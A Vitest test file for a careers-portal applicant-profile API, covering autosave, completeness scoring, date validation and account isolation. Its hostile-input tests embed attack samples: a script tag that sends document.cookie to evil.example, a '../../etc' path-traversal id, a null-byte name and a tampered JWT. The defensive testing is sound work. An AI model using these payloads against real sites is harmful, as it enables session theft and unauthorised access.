import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { FULL_PROFILE, inDays, referee, registerApplicant } from './careers-helpers.js';

let t: TestApp;
let amina: Awaited<ReturnType<typeof registerApplicant>>;
let brian: Awaited<ReturnType<typeof registerApplicant>>;

const get = (headers: Record<string, string>) => t.app.inject({ url: '/api/careers/profile', headers });
const put = (headers: Record<string, string>, payload: unknown) =>
  t.app.inject({ method: 'PUT', url: '/api/careers/profile', headers, payload: payload as object });

beforeAll(async () => {
  t = await createTestApp();
  amina = await registerApplicant(t.app, 'amina');
  brian = await registerApplicant(t.app, 'brian');
});
afterAll(async () => t?.close());

describe('applicant details', () => {
  it('starts empty and needs a token', async () => {
    expect((await t.app.inject({ url: '/api/careers/profile' })).statusCode).toBe(401);
    const res = await get(amina.headers);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ updatedAt: null, completeness: { complete: false, percent: 0 }, profile: { firstName: '', education: [] } });
  });

  it('autosaves the whole document and returns it unchanged after a reload', async () => {
    const saved = await put(amina.headers, FULL_PROFILE);
    expect(saved.statusCode, saved.body).toBe(200);
    expect(saved.json().profile).toEqual(FULL_PROFILE);
    expect(saved.json().updatedAt).toEqual(expect.any(String));
    const reloaded = (await get(amina.headers)).json();
    expect(reloaded.profile).toEqual(FULL_PROFILE);
    expect(reloaded.completeness).toEqual({
      personal: true,
      registration: true,
      education: true,
      employment: true,
      referees: true,
      personalStatement: true,
      complete: true,
      percent: 100,
    });
  });

  it('saves a half-filled form and says which sections are complete', async () => {
    const res = await put(brian.headers, { firstName: 'Brian ', referees: [referee('Only One'), { name: 'Half', email: 'half@' }], education: [{}] });
    expect(res.statusCode).toBe(200);
    const { profile, completeness } = res.json();
    expect(profile.firstName).toBe('Brian '); // kept as typed: the autosave never rewrites what the user is typing
    expect(profile.lastName).toBe('');
    expect(profile.referees).toHaveLength(2);
    expect(profile.referees[0].id).toMatch(/^[A-Za-z0-9_-]+$/);
    expect(profile.education[0]).toMatchObject({ institution: '', startDate: null, endDate: null });
    expect(completeness).toMatchObject({ personal: false, referees: false, education: false, complete: false, percent: 0 });
    const two = await put(brian.headers, { referees: [referee('One Referee'), referee('Two Referee')], personalStatement: 'Too short.' });
    expect(two.json().completeness).toMatchObject({ referees: true, personalStatement: false, percent: 17 });
    // The other applicant's details are untouched.
    expect((await get(amina.headers)).json().profile).toEqual(FULL_PROFILE);
  });

  it('refuses impossible dates with a message that names the entry', async () => {
    const young = await put(brian.headers, { dateOfBirth: inDays(-365 * 10) });
    expect(young.statusCode).toBe(400);
    expect(young.json().message).toContain('between 16 and 100 years old');
    expect((await put(brian.headers, { dateOfBirth: '1900-01-01' })).statusCode).toBe(400);
    expect((await put(brian.headers, { dateOfBirth: inDays(30) })).statusCode).toBe(400);
    const backwards = await put(brian.headers, {
      employment: [
        { employer: 'A', startDate: '2020-01-01', endDate: '2021-01-01' },
        { employer: 'B', startDate: '2019-05-01', endDate: '2018-05-01' },
      ],
    });
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().message).toBe('Employment history, entry 2: the end date is before the start date.');
    const education = await put(brian.headers, { education: [{ startDate: '2015-01-01', endDate: '2014-01-01' }] });
    expect(education.json().message).toContain('Education, entry 1');
    expect((await get(brian.headers)).json().profile.employment).toEqual([]); // nothing of a refused save was kept
  });
});

describe('hostile input on the applicant details', () => {
  it('refuses wrong types, huge strings, too many entries and control characters with 400', async () => {
    const bad: unknown[] = [
      { firstName: 42 },
      { firstName: 'x'.repeat(101) },
      { personalStatement: 'x'.repeat(4001) },
      { phone: 'call me maybe' },
      { dateOfBirth: '17/04/1992' },
      { idType: 'driving-licence' },
      { address: 'Kisumu' },
      { address: { city: ['Kisumu'] } },
      { education: 'University' },
      { education: Array.from({ length: 21 }, () => ({})) },
      { employment: [{ duties: 'x'.repeat(2001) }] },
      { referees: Array.from({ length: 6 }, () => ({})) },
      { referees: [{ id: '../../etc' }] },
      { lastName: 'Otieno\u0000' },
      { registration: { expiryDate: 'never' } },
      [FULL_PROFILE],
    ];
    for (const payload of bad) {
      const res = await put(brian.headers, payload);
      expect(res.statusCode, JSON.stringify(payload).slice(0, 80)).toBe(400);
      expect(res.json()).toMatchObject({ statusCode: 400, error: 'Bad Request' });
    }
  });

  it('keeps markup as plain text and ignores forged owner fields', async () => {
    const script = '<script>document.location="https://evil.example/?c="+document.cookie</script>';
    const res = await put(brian.headers, { firstName: script, personalStatement: `${script}\n`.repeat(3), userId: amina.id, user_id: amina.id });
    expect(res.statusCode).toBe(200);
    expect(res.json().profile.firstName).toBe(script);
    expect(res.json().profile).not.toHaveProperty('userId');
    expect((await get(brian.headers)).json().profile.firstName).toBe(script);
    expect((await get(amina.headers)).json().profile).toEqual(FULL_PROFILE);
  });

  it('refuses a token forged for another account', async () => {
    const forged = { authorization: `Bearer ${t.app.jwt.sign({ sub: amina.id, role: 'client' }).slice(0, -4)}AAAA` };
    expect((await put(forged, { firstName: 'Mallory' })).statusCode).toBe(401);
    expect((await get(amina.headers)).json().profile.firstName).toBe('Amina');
  });
});
